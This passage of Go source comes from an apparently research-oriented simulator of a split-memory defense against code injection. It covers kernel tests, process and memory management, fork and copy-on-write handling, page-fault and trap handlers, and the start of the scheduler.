		t.Fatalf("killed=%v sig=%v", killed, sig)
	}
}

func TestDivideByZeroSignal(t *testing.T) {
	src := `
_start:
    mov eax, 10
    mov ecx, 0
    div eax, ecx
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "div0")
	k.Run(0)
	killed, sig := p.Killed()
	if !killed || sig != SIGFPE {
		t.Fatalf("killed=%v sig=%v", killed, sig)
	}
}

func TestEventsJSONL(t *testing.T) {
	k := newKernel(t, Config{})
	k.Emit(Event{Kind: EvInjectionDetected, PID: 3, Proc: "victim",
		Addr: 0xbf001000, Data: []byte{0x90, 0xCD, 0x80}})
	k.Emit(Event{Kind: EvSignal, PID: 3, Signal: SIGILL})
	out, err := EventsJSONL(k.Events())
	if err != nil {
		t.Fatal(err)
	}
	s := string(out)
	for _, want := range []string{
		`"kind":"injection-detected"`, `"addr":"0xbf001000"`,
		`"data":"90cd80"`, `"signal":"SIGILL"`, `"pid":3`,
	} {
		if !strings.Contains(s, want) {
			t.Fatalf("missing %q in %s", want, s)
		}
	}
	if strings.Count(s, "\n") != 2 {
		t.Fatalf("want 2 lines, got %q", s)
	}
}

func TestHostKill(t *testing.T) {
	src := `
_start:
spin:
    jmp spin
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "spinner")
	res := k.Run(100_000)
	if res.Reason != ReasonBudget {
		t.Fatalf("reason=%v", res.Reason)
	}
	if !k.Kill(p.PID, SIGKILL) {
		t.Fatal("kill failed")
	}
	if k.Kill(p.PID, SIGKILL) {
		t.Fatal("double kill should report false")
	}
	if k.Kill(999, SIGKILL) {
		t.Fatal("unknown pid should report false")
	}
	killed, sig := p.Killed()
	if !killed || sig != SIGKILL {
		t.Fatalf("killed=%v sig=%v", killed, sig)
	}
	if res := k.Run(0); res.Reason != ReasonAllDone {
		t.Fatalf("after kill: %v", res.Reason)
	}
}

func TestPipeCapacityBlocksWriter(t *testing.T) {
	// The writer stuffs more than the pipe capacity; it must block until
	// the reader drains, then complete.
	src := `
_start:
    mov ebx, fds
    mov eax, 42            ; pipe
    int 0x80
    mov eax, 2             ; fork
    int 0x80
    cmp eax, 0
    jz reader

    ; writer: 17 x 4096-byte writes = 69632 > 65536 capacity
    mov esi, 17
wloop:
    push esi
    mov esi, fds
    load ebx, [esi+4]
    mov ecx, blob
    mov edx, 4096
    mov eax, 4
    int 0x80
    pop esi
    dec esi
    cmp esi, 0
    jnz wloop
    mov ebx, -1
    mov ecx, 0
    mov eax, 7             ; waitpid
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80

reader:
    ; drain 17 x 4096
    mov esi, 17
rloop:
    push esi
    mov esi, fds
    load ebx, [esi]
    mov ecx, blob2
    mov edx, 4096
    mov eax, 3
    int 0x80
    cmp eax, 4096
    jnz rbad
    pop esi
    dec esi
    cmp esi, 0
    jnz rloop
    mov ebx, 0
    mov eax, 1
    int 0x80
rbad:
    mov ebx, 1
    mov eax, 1
    int 0x80
.data
fds:   .word 0, 0
blob:  .space 4096, 0x5a
blob2: .space 4096
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "pipecap")
	res := k.Run(0)
	if res.Reason != ReasonAllDone {
		t.Fatalf("reason=%v", res.Reason)
	}
	if exited, status := p.Exited(); !exited || status != 0 {
		t.Fatalf("exited=%v status=%d", exited, status)
	}
}

func TestWaitpidSpecificChild(t *testing.T) {
	// Fork two children; wait for the SECOND one's pid specifically.
	src := `
_start:
    mov eax, 2
    int 0x80
    cmp eax, 0
    jz child_a
    mov esi, eax           ; pid A
    mov eax, 2
    int 0x80
    cmp eax, 0
    jz child_b
    mov edi, eax           ; pid B
    ; waitpid(B)
    mov ebx, edi
    mov ecx, 0
    mov eax, 7
    int 0x80
    cmp eax, edi
    jnz bad
    ; then waitpid(A)
    mov ebx, esi
    mov ecx, 0
    mov eax, 7
    int 0x80
    cmp eax, esi
    jnz bad
    mov ebx, 0
    mov eax, 1
    int 0x80
bad:
    mov ebx, 1
    mov eax, 1
    int 0x80
child_a:
    mov ecx, 5000
aspin:
    dec ecx
    cmp ecx, 0
    jnz aspin
    mov ebx, 0
    mov eax, 1
    int 0x80
child_b:
    mov ebx, 0
    mov eax, 1
    int 0x80
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "specific")
	res := k.Run(0)
	if res.Reason != ReasonAllDone {
		t.Fatalf("reason=%v", res.Reason)
	}
	if _, status := p.Exited(); status != 0 {
		t.Fatalf("status=%d", status)
	}
}

// panicProtector simulates a protection-engine bug: every page fault
// panics. Run must contain it and report ReasonInternalError instead of
// crashing the host.
type panicProtector struct{ Unprotected }

func (panicProtector) HandleFault(*Kernel, *Process, uint32, uint32) FaultVerdict {
	panic("injected protector bug")
}

func TestRunContainsProtectorPanic(t *testing.T) {
	k := newKernel(t, Config{Protector: panicProtector{}})
	// A store into the read-only text segment is a protection violation the
	// generic handlers decline, so it lands in the broken protector's
	// second-chance hook.
	spawn(t, k, `
_start:
    mov ecx, 0x08048000
    store [ecx], eax
`, "victim")
	res := k.Run(1_000_000)
	if res.Reason != ReasonInternalError {
		t.Fatalf("reason=%v, want ReasonInternalError", res.Reason)
	}
	if !strings.Contains(res.Panic, "injected protector bug") {
		t.Fatalf("panic value %q", res.Panic)
	}
	if !strings.Contains(res.Stack, "HandleFault") {
		t.Fatal("stack trace missing the panicking frame")
	}
	evs := k.EventsOf(EvMachineCheck)
	if len(evs) == 0 || !strings.Contains(evs[0].Text, "injected protector bug") {
		t.Fatalf("no machine-check event for the contained panic: %v", evs)
	}
}

func TestSpuriousFaultAbsorbed(t *testing.T) {
	k := newKernel(t, Config{})
	spawn(t, k, exitSrc, "exit5")
	if res := k.Run(0); res.Reason != ReasonAllDone {
		t.Fatalf("reason=%v", res.Reason)
	}
	if k.SpuriousFaults() != 0 {
		t.Fatalf("clean run absorbed %d spurious faults", k.SpuriousFaults())
	}
}
