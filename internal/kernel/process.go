package kernel

import (
	"fmt"

	"splitmem/internal/cpu"
	"splitmem/internal/isa"
	"splitmem/internal/loader"
	"splitmem/internal/mem"
	"splitmem/internal/paging"
)

// Permission aliases (loader.Perm* re-exported for brevity).
const (
	permR = loader.PermR
	permW = loader.PermW
	permX = loader.PermX
)

// procState tracks scheduler-visible process state.
type procState int

const (
	stateRunnable procState = iota + 1
	stateWaitStdin
	stateWaitPipe
	stateWaitChild
	stateShell
	stateExited
	stateKilled
)

// Region describes a virtual address range with uniform permissions used for
// demand paging and mprotect bookkeeping.
type Region struct {
	Start uint32 // inclusive, page aligned
	End   uint32 // exclusive, page aligned
	Perm  byte
	Name  string
}

// Contains reports whether addr falls inside the region.
func (r *Region) Contains(addr uint32) bool { return addr >= r.Start && addr < r.End }

// Process is one simulated guest process.
type Process struct {
	PID  int
	Name string
	Ctx  cpu.Context
	PT   *paging.Table

	state     procState
	exitCode  int
	killSig   Signal
	faultAddr uint32 // address that killed the process

	regions []Region
	brk     uint32 // current program break
	heap    *Region
	mmapTop uint32

	fds    []fdesc
	stdin  *stdinBuf // host-injected stdin; shared across fork like an fd
	outbuf []byte    // stdout collected for the host (per process)
	sebek  bool      // log stdin reads as keystrokes

	parent   int
	children map[int]bool
	waitAny  bool // blocked in waitpid(-1)
	waitPID  int

	shellSpawned bool

	// ProtData holds protector-private per-process state (the split-memory
	// engine keeps its page-pair table here).
	ProtData any

	// RecoveryHandler is the guest callback registered via
	// register_recovery(2) for the recovery response mode (§4.5's
	// envisioned extension).
	RecoveryHandler uint32
	initialSP       uint32

	// PendingSplit carries the faulting address from the page-fault handler
	// to the debug-interrupt handler during an instruction-TLB load, exactly
	// like the process-table field the paper adds (§5.2).
	PendingSplit      uint32
	PendingSplitValid bool
}

// Alive reports whether the process has not yet exited or been killed.
func (p *Process) Alive() bool { return p.state != stateExited && p.state != stateKilled }

// Exited reports whether the process exited voluntarily, and its status.
func (p *Process) Exited() (bool, int) { return p.state == stateExited, p.exitCode }

// Killed reports whether the process was killed, and by which signal.
func (p *Process) Killed() (bool, Signal) {
	if p.state != stateKilled {
		return false, SIGNONE
	}
	return true, p.killSig
}

// FaultAddr returns the address implicated in the process's death.
func (p *Process) FaultAddr() uint32 { return p.faultAddr }

// ShellSpawned reports whether the process ever invoked execve — the attack
// success marker.
func (p *Process) ShellSpawned() bool { return p.shellSpawned }

// stdinBuf is the kernel-side buffer behind fd 0. Forked children share it
// with their parent, exactly as a duplicated descriptor shares the socket.
type stdinBuf struct {
	data []byte
	eof  bool
}

// StdinWrite injects bytes into the process's standard input (the host side
// of the simulated socket).
func (p *Process) StdinWrite(b []byte) { p.stdin.data = append(p.stdin.data, b...) }

// StdinClose signals end-of-file on standard input.
func (p *Process) StdinClose() { p.stdin.eof = true }

// StdoutDrain returns and clears everything the process wrote to stdout.
func (p *Process) StdoutDrain() []byte {
	out := p.outbuf
	p.outbuf = nil
	return out
}

// StdoutPeek returns stdout content without clearing it.
func (p *Process) StdoutPeek() []byte { return p.outbuf }

// Regions returns the process's memory regions.
func (p *Process) Regions() []Region {
	out := make([]Region, len(p.regions))
	copy(out, p.regions)
	return out
}

func (p *Process) regionAt(addr uint32) *Region {
	for i := range p.regions {
		if p.regions[i].Contains(addr) {
			return &p.regions[i]
		}
	}
	return nil
}

// fdesc is one file-descriptor table slot.
type fdesc struct {
	kind fdKind
	pipe int  // pipe id
	read bool // readable end
}

type fdKind int

const (
	fdClosed fdKind = iota
	fdStdin
	fdStdout
	fdPipe
)

// ProcOptions adjusts process creation.
type ProcOptions struct {
	Name       string
	StackPages int // stack reservation in pages (default 256 = 1 MiB)
}

// Spawn loads a SELF program image into a fresh process, applying the active
// protection policy to every mapped page — the kernel's equivalent of the
// paper's modified ELF loader (§5.1).
func (k *Kernel) Spawn(prog *loader.Program, opts ProcOptions) (*Process, error) {
	if err := prog.Validate(); err != nil {
		return nil, err
	}
	name := opts.Name
	if name == "" {
		name = fmt.Sprintf("proc%d", k.nextPID)
	}
	p := &Process{
		PID:      k.nextPID,
		Name:     name,
		PT:       new(paging.Table),
		state:    stateRunnable,
		children: map[int]bool{},
		mmapTop:  MmapBase,
		fds: []fdesc{
			{kind: fdStdin, read: true},
			{kind: fdStdout},
		},
		stdin: &stdinBuf{},
	}
	k.nextPID++

	var maxEnd uint32
	for i := range prog.Sections {
		s := &prog.Sections[i]
		if err := k.mapSection(p, s); err != nil {
			k.releaseProcessMemory(p)
			return nil, err
		}
		if s.End() > maxEnd {
			maxEnd = s.End()
		}
		p.regions = append(p.regions, Region{
			Start: s.Addr &^ mem.PageMask,
			End:   (s.End() + mem.PageMask) &^ uint32(mem.PageMask),
			Perm:  s.Perm,
			Name:  s.Name,
		})
	}

	// Heap region (demand paged), directly above the image.
	heapBase := (maxEnd + HeapGap + mem.PageMask) &^ uint32(mem.PageMask)
	p.brk = heapBase
	p.regions = append(p.regions, Region{Start: heapBase, End: heapBase, Perm: permR | permW, Name: "heap"})
	p.heap = &p.regions[len(p.regions)-1]

	// Stack region (demand paged, grows down), with optional slight
	// randomization as added in Linux 2.6 (§6.1.2, the Samba scenario).
	stackPages := opts.StackPages
	if stackPages <= 0 {
		stackPages = 256
	}
	top := uint32(StackTop)
	if k.cfg.RandomizeStack {
		k.rngDraws++
		top -= uint32(k.rand().Intn(256)) << 4 // up to 4 KiB slide, 16-byte aligned
	}
	base := top&^uint32(mem.PageMask) - uint32(stackPages)*mem.PageSize
	p.regions = append(p.regions, Region{Start: base, End: (top + mem.PageMask) &^ uint32(mem.PageMask), Perm: permR | permW, Name: "stack"})
	// Re-resolve heap pointer: regions slice may have reallocated.
	for i := range p.regions {
		if p.regions[i].Name == "heap" {
			p.heap = &p.regions[i]
		}
	}

	p.Ctx = cpu.Context{EIP: prog.Entry}
	p.Ctx.R[isa.ESP] = top - 16
	p.initialSP = top - 16

	k.procs[p.PID] = p
	k.runq = append(k.runq, p.PID)
	k.Emit(Event{Kind: EvProcessStart, PID: p.PID, Proc: p.Name, Text: name})
	return p, nil
}

// mapSection eagerly allocates, fills, and maps every page of a section.
func (k *Kernel) mapSection(p *Process, s *loader.Section) error {
	first, last := s.PageSpan()
	for vpn := first; vpn < last; vpn++ {
		if p.PT.Get(vpn).Present() {
			return fmt.Errorf("kernel: section %q overlaps an already-mapped page %#x", s.Name, vpn<<mem.PageShift)
		}
		frame, err := k.m.Phys.Alloc()
		if err != nil {
			return err
		}
		// Copy the section bytes that land on this page.
		pageStart := vpn << mem.PageShift
		fr := k.m.Phys.Frame(frame)
		for off := uint32(0); off < mem.PageSize; off++ {
			va := pageStart + off
			if va < s.Addr || va >= s.End() {
				continue
			}
			idx := va - s.Addr
			if int(idx) < len(s.Data) {
				fr[off] = s.Data[idx]
			}
		}
		k.prot.MapPage(k, p, vpn, frame, s.Perm)
	}
	return nil
}

// demandMap materializes one page of a region on first touch.
func (k *Kernel) demandMap(p *Process, addr uint32, r *Region) error {
	frame, err := k.m.Phys.Alloc()
	if err != nil {
		return err
	}
	k.m.AddCycles(k.m.Cost.DemandFill)
	k.prot.MapPage(k, p, paging.VPN(addr), frame, r.Perm)
	return nil
}

// releaseProcessMemory frees every frame the process maps. Split pages are
// released through the protector so both twins return to the free pool
// (§5.4).
func (k *Kernel) releaseProcessMemory(p *Process) {
	p.PT.Range(func(vpn uint32, e paging.Entry) bool {
		if !e.Present() {
			return true
		}
		if k.prot.ReleasePage(k, p, vpn, e) {
			return true
		}
		k.m.Phys.Free(e.Frame())
		return true
	})
	p.PT = new(paging.Table)
}

// Fork clones the current process Unix-style: COW for plain writable pages,
// shared frames for read-only pages, protector-managed duplication for split
// pages (§5.4: "the copy-on-write mechanism ... must be slightly modified").
func (k *Kernel) fork(parent *Process) (*Process, error) {
	ctx := parent.Ctx
	if k.cur == parent {
		// The live register file is on the CPU, not in the saved context.
		ctx = k.m.Ctx
	}
	child := &Process{
		PID:      k.nextPID,
		Name:     parent.Name + "+",
		Ctx:      ctx,
		PT:       new(paging.Table),
		state:    stateRunnable,
		children: map[int]bool{},
		parent:   parent.PID,
		brk:      parent.brk,
		mmapTop:  parent.mmapTop,
		regions:  append([]Region(nil), parent.regions...),
		fds:      append([]fdesc(nil), parent.fds...),
		stdin:    parent.stdin, // fd 0 is shared, as after a real fork
	}
	child.RecoveryHandler = parent.RecoveryHandler
	child.initialSP = parent.initialSP
	// The fork syscall can itself be the single-stepped instruction of an
	// in-flight instruction-TLB load; the child inherits TF through Ctx, so
	// it must inherit the pending-load bookkeeping that explains it.
	child.PendingSplit = parent.PendingSplit
	child.PendingSplitValid = parent.PendingSplitValid
	k.nextPID++
	for i := range child.regions {
		if child.regions[i].Name == "heap" {
			child.heap = &child.regions[i]
		}
	}
	for _, fd := range child.fds {
		if fd.kind == fdPipe {
			k.pipeRef(fd.pipe, fd.read, +1)
		}
	}

	var mapErr error
	parent.PT.Range(func(vpn uint32, e paging.Entry) bool {
		if !e.Present() {
			return true
		}
		if ce, ok := k.prot.ForkPage(k, parent, child, vpn, e); ok {
			if ce == 0 {
				mapErr = fmt.Errorf("kernel: fork: protector failed to clone page %#x", vpn<<mem.PageShift)
				return false
			}
			child.PT.Set(vpn, ce)
			return true
		}
		if e.Writable() || e.IsCOW() {
			// Make both parent and child COW-share the frame.
			shared := e.Without(paging.Writable).With(paging.COW)
			parent.PT.Set(vpn, shared)
			child.PT.Set(vpn, shared)
			k.m.Phys.IncRef(e.Frame())
			k.m.Invlpg(vpn << mem.PageShift)
		} else {
			child.PT.Set(vpn, e)
			k.m.Phys.IncRef(e.Frame())
		}
		return true
	})
	if mapErr != nil {
		k.releaseProcessMemory(child)
		return nil, mapErr
	}

	parent.children[child.PID] = true
	k.procs[child.PID] = child
	k.runq = append(k.runq, child.PID)
	k.Emit(Event{Kind: EvProcessStart, PID: child.PID, Proc: child.Name, Text: "fork"})
	return child, nil
}

// breakCOW resolves a write fault on a copy-on-write page.
func (k *Kernel) breakCOW(p *Process, vpn uint32, e paging.Entry) error {
	k.m.AddCycles(k.m.Cost.COWCopy)
	if k.m.Phys.RefCount(e.Frame()) == 1 {
		p.PT.Set(vpn, e.Without(paging.COW).With(paging.Writable))
	} else {
		frame, err := k.m.Phys.Alloc()
		if err != nil {
			return err
		}
		k.m.Phys.CopyFrame(frame, e.Frame())
		k.m.Phys.Free(e.Frame())
		p.PT.Set(vpn, e.Without(paging.COW).With(paging.Writable).WithFrame(frame))
	}
	k.m.Invlpg(vpn << mem.PageShift)
	k.faultsGen++
	return nil
}

// ensureMapped makes the page containing addr present (demand-mapping it if
// it belongs to a region), returning its PTE.
func (k *Kernel) ensureMapped(p *Process, addr uint32, forWrite bool) (paging.Entry, error) {
	vpn := paging.VPN(addr)
	e := p.PT.Get(vpn)
	if !e.Present() {
		r := p.regionAt(addr)
		if r == nil {
			return 0, fmt.Errorf("EFAULT at %#x", addr)
		}
		if err := k.demandMap(p, addr, r); err != nil {
			return 0, err
		}
		e = p.PT.Get(vpn)
	}
	if forWrite && e.IsCOW() {
		if err := k.breakCOW(p, vpn, e); err != nil {
			return 0, err
		}
		e = p.PT.Get(vpn)
	}
	return e, nil
}

// dataFrame resolves the frame backing data accesses for vpn, honoring the
// protector's split view.
func (k *Kernel) dataFrame(p *Process, vpn uint32, e paging.Entry) uint32 {
	if f, ok := k.prot.DataFrame(p, vpn); ok {
		return f
	}
	return e.Frame()
}

// CopyFromUser reads n bytes of guest memory starting at addr, using the
// data view of split pages (the kernel never sees the code twin when acting
// on behalf of a data access).
func (k *Kernel) CopyFromUser(p *Process, addr uint32, n int) ([]byte, error) {
	out := make([]byte, 0, n)
	for n > 0 {
		e, err := k.ensureMapped(p, addr, false)
		if err != nil {
			return nil, err
		}
		frame := k.dataFrame(p, paging.VPN(addr), e)
		fr := k.m.Phys.Frame(frame)
		off := addr & mem.PageMask
		chunk := int(mem.PageSize - off)
		if chunk > n {
			chunk = n
		}
		out = append(out, fr[off:int(off)+chunk]...)
		addr += uint32(chunk)
		n -= chunk
	}
	return out, nil
}

// CopyToUser writes bytes into guest memory at addr — e.g. a read(2)
// delivering network data. On split pages the bytes land on the data frame
// only: this is precisely how injected code ends up unreachable by fetch.
func (k *Kernel) CopyToUser(p *Process, addr uint32, b []byte) error {
	for len(b) > 0 {
		e, err := k.ensureMapped(p, addr, true)
		if err != nil {
			return err
		}
		frame := k.dataFrame(p, paging.VPN(addr), e)
		fr := k.m.Phys.Frame(frame)
		off := addr & mem.PageMask
		chunk := int(mem.PageSize - off)
		if chunk > len(b) {
			chunk = len(b)
		}
		copy(fr[off:], b[:chunk])
		addr += uint32(chunk)
		b = b[chunk:]
	}
	return nil
}

// CopyStringFromUser reads a NUL-terminated guest string (capped at max).
func (k *Kernel) CopyStringFromUser(p *Process, addr uint32, max int) (string, error) {
	var out []byte
	for len(out) < max {
		b, err := k.CopyFromUser(p, addr, 1)
		if err != nil {
			return "", err
		}
		if b[0] == 0 {
			return string(out), nil
		}
		out = append(out, b[0])
		addr++
	}
	return string(out), nil
}

// setBrk implements the brk syscall: grows (or shrinks) the heap region.
func (k *Kernel) setBrk(p *Process, addr uint32) uint32 {
	if addr == 0 || addr < p.heap.Start || addr >= StackLimit-(64<<20) {
		return p.brk
	}
	newEnd := (addr + mem.PageMask) &^ uint32(mem.PageMask)
	if newEnd < p.heap.End {
		// Shrink: unmap pages above the new break.
		for vpn := newEnd >> mem.PageShift; vpn < p.heap.End>>mem.PageShift; vpn++ {
			e := p.PT.Get(vpn)
			if !e.Present() {
				continue
			}
			if !k.prot.ReleasePage(k, p, vpn, e) {
				k.m.Phys.Free(e.Frame())
			}
			p.PT.Set(vpn, 0)
			k.m.Invlpg(vpn << mem.PageShift)
		}
	}
	p.heap.End = newEnd
	p.brk = addr
	return p.brk
}

// mmapAnon implements anonymous mmap: reserves a demand-paged region.
func (k *Kernel) mmapAnon(p *Process, length uint32, perm byte) uint32 {
	if length == 0 {
		return ^uint32(0) // MAP_FAILED
	}
	length = (length + mem.PageMask) &^ uint32(mem.PageMask)
	base := p.mmapTop
	p.mmapTop += length + mem.PageSize // guard gap
	p.regions = append(p.regions, Region{Start: base, End: base + length, Perm: perm, Name: "mmap"})
	// Region pointers (heap) may have been invalidated by append.
	for i := range p.regions {
		if p.regions[i].Name == "heap" {
			p.heap = &p.regions[i]
		}
	}
	return base
}

// mprotect updates permissions over [addr, addr+len), reapplying protection
// policy to already-present pages. Returns 0 or a negative errno.
func (k *Kernel) mprotect(p *Process, addr, length uint32, perm byte) int32 {
	if addr&mem.PageMask != 0 {
		return -22 // EINVAL
	}
	end := (addr + length + mem.PageMask) &^ uint32(mem.PageMask)
	r := p.regionAt(addr)
	if r == nil || end > r.End {
		return -12 // ENOMEM
	}
	if r.Start < addr || end < r.End {
		// Split the region so each part carries its own permissions.
		pre := *r
		post := *r
		pre.End = addr
		post.Start = end
		mid := Region{Start: addr, End: end, Perm: perm, Name: r.Name}
		var regions []Region
		for i := range p.regions {
			if &p.regions[i] == r {
				if pre.Start < pre.End {
					regions = append(regions, pre)
				}
				regions = append(regions, mid)
				if post.Start < post.End {
					regions = append(regions, post)
				}
				continue
			}
			regions = append(regions, p.regions[i])
		}
		p.regions = regions
		for i := range p.regions {
			if p.regions[i].Name == "heap" {
				p.heap = &p.regions[i]
			}
		}
	} else {
		r.Perm = perm
	}
	// Reapply policy to present pages: rebuild their mapping with the same
	// backing frame but new permissions.
	for vpn := addr >> mem.PageShift; vpn < end>>mem.PageShift; vpn++ {
		e := p.PT.Get(vpn)
		if !e.Present() {
			continue
		}
		if e.IsCOW() {
			if err := k.breakCOW(p, vpn, e); err != nil {
				return -12
			}
			e = p.PT.Get(vpn)
		}
		if !k.prot.ProtectPage(k, p, vpn, e, perm) {
			k.prot.MapPage(k, p, vpn, e.Frame(), perm)
		}
		k.m.Invlpg(vpn << mem.PageShift)
	}
	return 0
}
