package kernel

import (
	"splitmem/internal/cpu"
	"splitmem/internal/paging"
)

// The kernel implements cpu.TrapHandler; this file is the interrupt
// descriptor table.

// PageFault is the kernel page-fault handler (the paper's §5.2). Order of
// business: protector-managed (split) pages first, then demand paging,
// copy-on-write, and finally SIGSEGV.
func (k *Kernel) PageFault(addr uint32, code uint32) cpu.Action {
	p := k.cur
	if p == nil {
		return cpu.ActStop
	}
	k.m.AddCycles(k.m.Cost.PFBase)

	vpn := paging.VPN(addr)
	e := p.PT.Get(vpn)

	// Split-memory (and other protector) pages: the PTE carries the Split
	// software bit; not every fault on such a page is ours (§5.2 warns about
	// exactly this), so the protector can still decline.
	if e.Split() {
		switch k.prot.HandleFault(k, p, addr, code) {
		case FaultHandled:
			return cpu.ActResume
		case FaultKill:
			k.killProcess(p, SIGSEGV, addr)
			return cpu.ActStop
		}
	}

	// Demand paging: not-present fault inside a mapped region.
	if !e.Present() {
		if r := p.regionAt(addr); r != nil {
			if err := k.demandMap(p, addr, r); err != nil {
				k.killProcess(p, SIGSEGV, addr)
				return cpu.ActStop
			}
			k.faultsGen++
			return cpu.ActResume
		}
		k.killProcess(p, SIGSEGV, addr)
		return cpu.ActStop
	}

	// Copy-on-write break.
	if code&cpu.PFWrite != 0 && e.IsCOW() {
		if err := k.breakCOW(p, vpn, e); err != nil {
			k.killProcess(p, SIGSEGV, addr)
			return cpu.ActStop
		}
		return cpu.ActResume
	}

	// NX / write-to-read-only / supervisor violations the protector did not
	// claim: give the protector one more chance (the NX engine detects
	// injected-code fetches here), then kill.
	if verdict := k.prot.HandleFault(k, p, addr, code); verdict == FaultHandled {
		return cpu.ActResume
	}

	// Benign refault: the PTE as it stands now already permits the faulting
	// access. That is the signature of a stale TLB entry surviving a
	// shootdown or of a double-delivered trap (both injected by the chaos
	// engine, both possible on real SMP hardware); shoot the entry down
	// again and retry rather than punishing the process.
	e = p.PT.Get(vpn)
	if e.Present() && e.User() &&
		(code&cpu.PFWrite == 0 || e.Writable()) &&
		(code&cpu.PFFetch == 0 || !(e.NoExec() && k.m.NXEnabled)) {
		k.m.Invlpg(addr)
		k.spurious++
		return cpu.ActResume
	}

	k.killProcess(p, SIGSEGV, addr)
	return cpu.ActStop
}

// DebugTrap is the debug-interrupt handler (§5.3): during a split
// instruction-TLB load the page-fault handler sets the trap flag, and this
// handler re-restricts the PTE afterwards.
func (k *Kernel) DebugTrap() cpu.Action {
	p := k.cur
	if p == nil {
		return cpu.ActStop
	}
	if k.prot.HandleDebug(k, p) {
		return cpu.ActResume
	}
	// Stray single-step without protector bookkeeping: clear TF and carry on.
	k.m.Ctx.Flags.TF = false
	return cpu.ActResume
}

// Breakpoint handles int3: treated as SIGTRAP (no debugger attached).
func (k *Kernel) Breakpoint() cpu.Action {
	p := k.cur
	if p == nil {
		return cpu.ActStop
	}
	k.killProcess(p, SIGTRAP, k.m.Ctx.EIP)
	return cpu.ActStop
}

// Interrupt dispatches software interrupts; vector 0x80 is the syscall gate.
func (k *Kernel) Interrupt(vector byte) cpu.Action {
	p := k.cur
	if p == nil {
		return cpu.ActStop
	}
	if vector != 0x80 {
		k.killProcess(p, SIGSEGV, k.m.Ctx.EIP)
		return cpu.ActStop
	}
	return k.syscall(p)
}

// Undefined handles #UD. Under the split-memory response engine this is the
// moment an injected-code fetch is detected "right before" execution
// (§4.5): the code twin of a data page holds no valid instructions.
func (k *Kernel) Undefined() cpu.Action {
	p := k.cur
	if p == nil {
		return cpu.ActStop
	}
	switch k.prot.HandleUndefined(k, p) {
	case UDResume:
		return cpu.ActResume
	case UDKill:
		k.killProcess(p, SIGILL, k.m.Ctx.EIP)
		return cpu.ActStop
	}
	k.killProcess(p, SIGILL, k.m.Ctx.EIP)
	return cpu.ActStop
}

// GeneralProtection handles privileged instructions in user mode.
func (k *Kernel) GeneralProtection() cpu.Action {
	p := k.cur
	if p == nil {
		return cpu.ActStop
	}
	k.killProcess(p, SIGSEGV, k.m.Ctx.EIP)
	return cpu.ActStop
}

// DivideError delivers SIGFPE.
func (k *Kernel) DivideError() cpu.Action {
	p := k.cur
	if p == nil {
		return cpu.ActStop
	}
	k.killProcess(p, SIGFPE, k.m.Ctx.EIP)
	return cpu.ActStop
}
