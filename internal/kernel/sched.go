package kernel

import (
	"context"
	"fmt"
	"runtime/debug"

	"splitmem/internal/cpu"
)

// StopReason explains why Kernel.Run returned control to the host.
type StopReason int

// Run stop reasons.
const (
	// ReasonAllDone: every process has exited or been killed.
	ReasonAllDone StopReason = iota + 1
	// ReasonWaitingInput: all live processes are blocked waiting for host
	// stdin input; the driver should feed data and call Run again.
	ReasonWaitingInput
	// ReasonBudget: the cycle budget given to Run was exhausted.
	ReasonBudget
	// ReasonDeadlock: live processes remain but none can ever run again
	// (e.g. all blocked on pipes with no writer).
	ReasonDeadlock
	// ReasonInternalError: a simulator bug panicked inside Run; the panic
	// was contained and converted to this result instead of crashing the
	// host. RunResult.Panic and RunResult.Stack carry the evidence.
	ReasonInternalError
	// ReasonCanceled: the context given to RunContext was canceled or its
	// deadline expired. The cancellation is observed between scheduler
	// timeslices, so the latency from cancel to return is at most one
	// timeslice of simulated work; guest state stays consistent and Run may
	// be called again to continue.
	ReasonCanceled
)

// String names the stop reason.
func (r StopReason) String() string {
	switch r {
	case ReasonAllDone:
		return "all-done"
	case ReasonWaitingInput:
		return "waiting-input"
	case ReasonBudget:
		return "budget"
	case ReasonDeadlock:
		return "deadlock"
	case ReasonInternalError:
		return "internal-error"
	case ReasonCanceled:
		return "canceled"
	}
	return "unknown"
}

// RunResult summarizes a Run invocation.
type RunResult struct {
	Reason StopReason
	Cycles uint64 // cycles consumed by this Run call
	Panic  string // ReasonInternalError only: the recovered panic value
	Stack  string // ReasonInternalError only: the host stack trace
	Trace  string // ReasonInternalError only: guest instruction trace tail, if recorded
}

// Run drives the scheduler until every process finishes, everyone is
// waiting on host input, or maxCycles simulated cycles elapse (0 = no
// budget). It is the host's "power button": drivers alternate between Run
// and feeding process stdin.
func (k *Kernel) Run(maxCycles uint64) RunResult {
	return k.RunContext(context.Background(), maxCycles)
}

// RunContext is Run with cancellation: it additionally returns
// ReasonCanceled when ctx is canceled or its deadline passes. The context
// is polled between scheduler timeslices (never mid-instruction), bounding
// the cancellation latency to one timeslice of simulated work while keeping
// the hot execution loop free of host synchronization.
func (k *Kernel) RunContext(ctx context.Context, maxCycles uint64) (res RunResult) {
	start := k.m.Cycles
	// Host panic containment: a simulator bug must never crash the embedding
	// process. The panic is logged as a machine check and reported through
	// the normal RunResult channel.
	defer func() {
		if r := recover(); r != nil {
			res = RunResult{
				Reason: ReasonInternalError,
				Cycles: k.m.Cycles - start,
				Panic:  fmt.Sprint(r),
				Stack:  string(debug.Stack()),
			}
			k.Emit(Event{Kind: EvMachineCheck, Text: "panic: " + res.Panic})
		}
	}()
	deadline := ^uint64(0)
	if maxCycles > 0 {
		deadline = start + maxCycles
	}
	for {
		select {
		case <-ctx.Done():
			return RunResult{Reason: ReasonCanceled, Cycles: k.m.Cycles - start}
		default:
		}
		k.serviceShells()
		k.wakeStdinWaiters()
		p := k.nextRunnable()
		if p == nil {
			return RunResult{Reason: k.idleReason(), Cycles: k.m.Cycles - start}
		}
		k.switchTo(p)
		sliceEnd := k.m.Cycles + k.timeslice
		if sliceEnd > deadline {
			sliceEnd = deadline
		}
		// Publish the bound so the superblock engine can side-exit compiled
		// blocks at exactly the cycle this loop would stop stepping.
		k.m.SetSliceEnd(sliceEnd)
		for p.state == stateRunnable && k.m.Cycles < sliceEnd {
			if k.m.Step() == cpu.StepStopped {
				break
			}
			// Chaos: forced timeslice expiry, checked only after the process
			// has made at least one step of progress so a high Preempt rate
			// degrades into a context-switch storm, never a livelock. When a
			// superblock consumed this instruction's draw in-block, honor its
			// verdict instead of drawing again — the draw stream must stay
			// aligned with an interpreter-only run.
			if drawn, preempt := k.m.TakePreemptDraw(); drawn {
				if preempt {
					break
				}
